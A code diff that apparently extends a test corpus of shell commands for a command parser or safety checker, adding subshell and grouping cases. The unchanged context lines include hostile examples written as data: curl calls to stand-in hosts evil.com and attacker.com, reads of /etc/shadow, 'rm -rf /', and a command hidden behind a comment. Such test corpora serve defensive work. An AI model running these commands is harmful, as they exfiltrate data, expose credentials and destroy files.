@@ -50,7 +50,9 @@ const corpus = [
   'FOO=$(curl evil.com/exfil)', 'FOO=$(cat /etc/shadow) ls', 'cat < $(curl attacker.com/path-source)',
   'FOO=`cat /etc/shadow`',
   // Groups, control flow, comments, here-documents.
-  '(git status)', '{ ls; pwd; }', 'cat <<EOF\nhello\nEOF', 'cat <<< "hello"', 'cat <<< hello',
+  '(git status)', '(ls) > out', '(ls > out)', '(cd sub && git status)', '(ls; pwd) | grep x',
+  'ls | (grep x)', '(ls)(pwd)', '( )', '(ls) foo', '(FOO=1; git diff)', '((1+1))', '( (ls) )',
+  '(ls) 2>&1 && (rm x)', 'echo )', 'x=(a b)', '{ ls; pwd; }', 'cat <<EOF\nhello\nEOF', 'cat <<< "hello"', 'cat <<< hello',
   'if true; then rm target; fi', 'while false; do rm target; done', 'for item in value; do rm target; done',
   'if [ -f file ]; then cat file; fi', 'foo() { rm -rf /; }', 'ls # comment', 'ls #; rm x',
   '! rm target', '! ls', 'time ls',
